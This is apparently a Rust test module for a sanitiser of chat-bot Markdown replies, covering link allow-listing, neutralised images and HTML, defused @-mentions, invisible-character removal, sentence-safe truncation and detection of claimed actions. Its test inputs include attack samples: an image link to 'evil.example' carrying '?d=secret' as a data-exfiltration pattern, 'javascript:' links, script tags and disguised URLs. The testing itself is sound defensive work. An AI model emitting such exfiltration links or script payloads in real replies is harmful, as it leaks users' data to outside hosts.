use proptest::prelude::*;
use pulldown_cmark::{Event, Parser, Tag};

use super::*;

fn hosts() -> Hosts {
    Hosts::from(["portal.example.com".to_owned()])
}

fn tamed(text: &str) -> String {
    clean(text, &hosts(), 4_000)
}

#[test]
fn links_lead_to_known_hosts_only() {
    for (text, expected) in [
        (
            "See [the portal](https://portal.example.com/x).",
            "See [the portal](https://portal.example.com/x).",
        ),
        ("<https://portal.example.com/x>", "<https://portal.example.com/x>"),
        ("https://portal.example.com/x", "https://portal.example.com/x"),
        ("[click](https://evil.example/?d=1)", "click (`https://evil.example/?d=1`)"),
        ("<https://evil.example/>", "`https://evil.example/`"),
        ("go to https://evil.example/x now", "go to `https://evil.example/x` now"),
        ("go to evil.example now", "go to `evil.example` now"),
        ("[a](javascript:alert(1))", "a"),
        (
            "[<https://evil.example>](https://portal.example.com/)",
            "[`https://evil.example`](https://portal.example.com/)",
        ),
        ("[a](/relative)", "a"),
        ("[a](https://portal.example.com@evil.example/)", "a (`https://portal.example.com@evil.example/`)"),
        ("[a][b]\n\n[b]: https://evil.example/z", "a (`https://evil.example/z`)"),
        ("write to <help@portal.example.com>", "write to help@portal.example.com"),
        ("`https://evil.example` is code", "`https://evil.example` is code"),
    ] {
        assert_eq!(tamed(text).trim(), expected, "{text}");
    }
}

#[test]
fn addresses_in_disguise_are_found() {
    for text in [
        "https&#58;//evil.example/x",
        "https://ev**il**.example/x",
        "https://ev_il_x.example/x",
        "https:\\/\\/evil.example/x",
        "ht*tps*://evil.example",
    ] {
        let shown = tamed(text);
        assert!(loose(&shown, &hosts()).is_empty(), "{text} became {shown}");
    }
}

/// S100: pictures and HTML.
#[test]
fn pictures_and_html_lose_their_power() {
    for (text, expected) in [
        ("![a chart](https://evil.example/p.png?d=secret)", "a chart"),
        (
            "[![x](https://evil.example/p.png)](https://portal.example.com/)",
            "[x](https://portal.example.com/)",
        ),
        ("![a][b]\n\n[b]: https://evil.example/z", "a"),
        ("://*://`[b]: https://evil.example", "`://`*`://`\\`[b]: `https://evil.example`"),
        ("Enter \\\\server\\<name>", "Enter \\\\server\\<name>"),
        ("press <b>this</b>", "press \\<b>this\\</b>"),
        ("<script>alert(1)</script>", "\\<script>alert(1)\\</script>"),
        ("<!-- hidden -->", "\\<!-- hidden -->"),
    ] {
        assert_eq!(tamed(text), expected, "{text}");
    }
}

#[test]
fn nobody_is_called() {
    for (text, expected) in [
        ("@everyone look", "@\u{200B}everyone look"),
        ("hi @bob, (@here)", "hi @\u{200B}bob, (@\u{200B}here)"),
        ("<@U123> <!channel>", "<@\u{200B}U123> \\<!channel>"),
        ("mail a@b.example", "mail a@b.example"),
        ("5 @ 3", "5 @ 3"),
        ("&#64;everyone", "@\u{200B}everyone"),
    ] {
        assert_eq!(tamed(text), expected, "{text}");
    }
}

#[test]
fn invisible_characters_are_gone() {
    assert_eq!(tamed("a\u{202E}b\u{E0041}c\u{0}d\u{200B}e\r\nf"), "abcde\nf");
    assert_eq!(tamed("👩‍💻 é ä 漢"), "👩‍💻 é ä 漢");
}

#[test]
fn a_cut_text_ends_with_a_sentence() {
    for (text, expected) in [
        ("First. Second. Thi", "First. Second."),
        ("One long sentence without an en", "One long sentence without an…"),
        ("Done.", "Done."),
        ("Ask Mr", "Ask…"),
        ("Do this:\n1. Restart it\n2. Wai", "Do this:\n1. Restart it"),
        ("", "…"),
    ] {
        assert_eq!(last_sentence(text), expected, "{text}");
    }
    assert_eq!(shorten("short", 10), "short");
    assert!(clean(&"word. ".repeat(2_000), &hosts(), 100).len() <= 100);
}

/// T20.
#[test]
fn t20_a_promise_is_noticed() {
    for text in [
        "I'm connecting you now.",
        "I’ve notified the team",
        "Ich verbinde Sie mit der Technik",
        "He creado un ticket",
    ] {
        assert!(claims_an_act(text), "{text}");
    }
    for text in [
        "Connect the cable.",
        "A technician can help you.",
        "Verbinden Sie das Kabel.",
        "Shall I connect you?",
    ] {
        assert!(!claims_an_act(text), "{text}");
    }
}

/// Everything in a text that could be followed or fetched, or calls somebody.
fn loose(text: &str, hosts: &Hosts) -> Vec<String> {
    let mut found = Vec::new();
    let mut shown = String::new();
    let mut known = 0;
    let mut code = 0;
    for event in Parser::new(text) {
        match event {
            Event::Start(Tag::Image { dest_url, .. }) => found.push(format!("picture {dest_url}")),
            Event::Start(Tag::Link { dest_url, .. }) => {
                known += 1;
                if !links::is_known(&dest_url, hosts) {
                    found.push(format!("link {dest_url}"));
                }
            }
            Event::End(pulldown_cmark::TagEnd::Link) => known -= 1,
            Event::Start(Tag::CodeBlock(_)) => code += 1,
            Event::End(pulldown_cmark::TagEnd::CodeBlock) => code -= 1,
            Event::Html(html) | Event::InlineHtml(html) => found.push(format!("html {html}")),
            Event::Text(text) if known == 0 && code == 0 => shown.push_str(&text),
            Event::Text(_) => {}
            _ => shown.push(' '),
        }
    }
    let unknown = links::found(&shown).filter(|place| !links::is_known(&shown[place.clone()], hosts));
    found.extend(unknown.map(|place| shown[place].to_owned()));
    found
}

fn any_markdown() -> impl Strategy<Value = String> {
    let piece = prop_oneof![
        Just("![a](https://evil.example/p.png)"),
        Just("[b](https://evil.example)"),
        Just("[c](https://portal.example.com/)"),
        Just("<https://evil.example>"),
        Just("https://evil.example/x"),
        Just("<img src=x>"),
        Just("<div>"),
        Just("\n\n"),
        Just("\n"),
        Just("["),
        Just("]"),
        Just("("),
        Just(")"),
        Just("!"),
        Just("`"),
        Just("```"),
        Just("*"),
        Just("**"),
        Just("_"),
        Just("\\"),
        Just("&#58;"),
        Just("&lt;"),
        Just("://"),
        Just("evil.example"),
        Just("@everyone"),
        Just("<@U1>"),
        Just("> "),
        Just("- "),
        Just("1. "),
        Just("    "),
        Just(" "),
        Just("[b]: https://evil.example"),
        Just("# "),
        Just("a"),
        Just("é"),
        Just("\u{202E}"),
    ];
    prop::collection::vec(piece, 0..16).prop_map(|pieces| pieces.concat())
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 500, failure_persistence: None, ..ProptestConfig::default() })]

    #[test]
    fn nothing_loose_is_left(text in any_markdown()) {
        let shown = tamed(&text);
        prop_assert_eq!(loose(&shown, &hosts()), Vec::<String>::new(), "{:?} became {:?}", text, shown);
    }

    #[test]
    fn any_text_is_survived(text in any::<String>(), max in 0_usize..200) {
        let shown = clean(&text, &hosts(), max);
        prop_assert!(loose(&shown, &hosts()).is_empty());
    }
}
